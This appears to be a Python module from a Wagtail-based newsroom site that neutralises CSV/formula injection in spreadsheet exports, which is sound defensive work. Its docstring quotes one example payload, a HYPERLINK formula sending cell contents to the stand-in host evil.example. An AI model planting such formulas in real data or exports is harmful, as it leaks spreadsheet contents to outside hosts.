"""Spreadsheet exports that never run what readers typed (CSV / formula injection).

Search terms, form submissions, subscriber sources and page titles come from outside the newsroom; a cell such
as `=HYPERLINK("http://evil.example/?"&A1,"Click")` becomes a live formula when a CSV or XLSX file is opened in a
spreadsheet. Every export goes through `spreadsheet_safe` (OWASP's advice): a text cell starting with = + - @,
a tab or a carriage return gets a leading single quote, which spreadsheets show as text. Numbers, dates and
text that is only a number ("-5", "+3.2") are left alone: they cannot run anything. CSV writers quote every field
(`csv_writer`), so a `;` inside a value cannot start a new cell where spreadsheets split on semicolons.

Wagtail's own exports (reports, search terms, form submissions, redirects) share one mixin, made safe once in
`protect_wagtail_exports`, called from CoreConfig.ready().
"""

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def spreadsheet_safe(value):
    """The value to write in a spreadsheet cell: text that could start a formula gets a leading quote."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_writer(out, **kwargs):
    """A csv.writer quoting every field; give it `spreadsheet_safe` values."""
    return csv.writer(out, quoting=csv.QUOTE_ALL, **kwargs)


def protect_wagtail_exports():
    """Make Wagtail's SpreadsheetExportMixin (every CSV/XLSX export in its admin) write safe cells.

    Patched on the mixin rather than on each view because Wagtail registers the views (reports, search terms,
    form submissions, redirects, generic listings) itself; no subclass overrides these methods (Wagtail 7.4).
    """
    from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "journos_spreadsheet_safe", False):
        return
    preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value
    get_heading = SpreadsheetExportMixin.get_heading

    def safe_preprocess_field_value(self, field, value, export_format):
        return spreadsheet_safe(preprocess_field_value(self, field, value, export_format))

    def safe_get_heading(self, queryset, field):
        # Form submissions take their headings from field labels that editors type.
        return spreadsheet_safe(get_heading(self, queryset, field))

    def stream_csv(self, queryset):
        # Wagtail's own, with every field quoted.
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export, quoting=csv.QUOTE_ALL)
        yield writer.writerow({field: self.get_heading(queryset, field) for field in self.list_export})
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    SpreadsheetExportMixin.preprocess_field_value = safe_preprocess_field_value
    SpreadsheetExportMixin.get_heading = safe_get_heading
    SpreadsheetExportMixin.stream_csv = stream_csv
    SpreadsheetExportMixin.journos_spreadsheet_safe = True
